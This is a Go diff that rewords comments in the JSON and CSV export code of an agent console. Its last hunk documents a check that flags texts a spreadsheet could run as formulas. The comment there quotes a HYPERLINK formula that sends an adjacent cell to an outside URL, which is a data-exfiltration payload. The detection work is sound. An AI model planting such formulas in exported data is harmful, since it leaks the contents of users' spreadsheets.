@@ -17,8 +17,8 @@ import (
 	"github.com/exoagent/exoagent/internal/scalar"
 )
 
-// save writes the last program, or by the file's name its result, to a new file that
-// only its owner may read, and says which.
+// save writes the last program, or its result if the file's name says so,
+// to a new file that only its owner may read. It prints what it wrote.
 func (c *console) save(path string) error {
 	switch {
 	case path == "":
@@ -57,8 +57,8 @@ func (c *console) save(path string) error {
 
 var errNoResult = errors.New("the last program failed, so there is no result to save or to draw")
 
-// jsonOf is the whole result as JSON, also where a model would get it cut. Characters
-// that a terminal would act on are escaped, which changes no value.
+// jsonOf returns the whole result as JSON, even if a model would get it cut.
+// It escapes characters on which a terminal would act; that changes no value.
 func jsonOf(res *codemode.Result) ([]byte, string, error) {
 	if res.Err != nil {
 		return nil, "", errNoResult
@@ -86,9 +86,8 @@ func (c *console) chart() error {
 	})
 }
 
-// csvOf is the rows of a result as CSV (RFC 4180, commas, UTF-8), all of them: null is
-// an empty field and a text is quoted, so that the empty text is "". note says what
-// was changed.
+// csvOf returns all rows of a result as CSV (RFC 4180, commas, UTF-8). A null is an empty
+// field, and a text is quoted, so the empty text is "". note says which texts were changed.
 func csvOf(res *codemode.Result) (data []byte, what, note string, err error) {
 	if res.Err != nil {
 		return nil, "", "", errNoResult
@@ -98,7 +97,7 @@ func csvOf(res *codemode.Result) (data []byte, what, note string, err error) {
 		items, ok = []value.Value{res.Value}, true
 	}
 	if !ok {
-		return nil, "", "", errors.New("the last result is no rows; .save FILE.json keeps it")
+		return nil, "", "", errors.New("the last result has no rows; .save FILE.json keeps it")
 	}
 	var names []string
 	known := map[string]bool{}
@@ -143,7 +142,7 @@ func csvOf(res *codemode.Result) (data []byte, what, note string, err error) {
 	return []byte(b.String()), what, note, nil
 }
 
-// leaves are the values in a record; nested records have dotted names.
+// leaves calls yield for the values in a record. Values in a nested record have dotted names.
 func leaves(prefix string, v value.Value, yield func(name string, x value.Value)) {
 	for n, x := range v.Fields() {
 		if x.Type() == value.TypeRecord && x.Len() > 0 {
@@ -170,13 +169,13 @@ func csvCell(v value.Value, text func(string) string) string {
 	if v.Type() == value.TypeList || v.Type() == value.TypeRecord || v.Type() == value.TypeRows {
 		return text(string(b))
 	}
-	return strings.Trim(string(b), `"`) // a whole number beyond JSON's is a text there
+	return strings.Trim(string(b), `"`) // a whole number that JSON's numbers don't hold is a text here
 }
 
-// formula reports whether a spreadsheet could take a text for a formula, whoever wrote
-// it into the database: =HYPERLINK("https://…"&A1) sends what stands beside it away.
-// Some of them drop space before the sign, and know it in full width too. A number
-// is none.
+// formula reports whether a spreadsheet could take a text for a formula. An
+// attacker may have written the text into the database: =HYPERLINK("https://…"&A1)
+// sends the cell beside it away. Some spreadsheets ignore spaces before the sign,
+// and accept it in full width. A number is no formula.
 func formula(s string) bool {
 	s = strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) })
 	if _, ok := scalar.Canonical(value.TypeDecimal, s); ok || s == "" {
